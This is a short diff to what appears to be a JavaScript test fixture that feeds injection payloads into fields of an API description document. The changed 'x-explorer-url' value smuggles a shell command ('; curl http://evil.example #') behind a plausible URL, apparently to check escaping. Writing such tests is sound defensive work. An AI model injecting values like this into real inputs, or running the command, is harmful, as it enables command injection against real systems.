@@ -18,7 +18,7 @@ const DOCUMENT = {
   info: { title: SCRIPT, version: SCRIPT, description: MARKDOWN },
   servers: [{ name: SCRIPT, url: LINK, description: MARKDOWN }],
   'x-undescribed': [{ method: SCRIPT, reason: MARKDOWN }],
-  'x-explorer-url': `'; curl http://evil.example #`,
+  'x-explorer-url': `https://x.example/'; curl http://evil.example #`,
   methods: [
     {
       name: `${SCRIPT}.${SCRIPT}`, summary: SCRIPT, description: MARKDOWN, tags: [{ name: SCRIPT }], deprecated: true, 'x-deprecated-note': MARKDOWN,
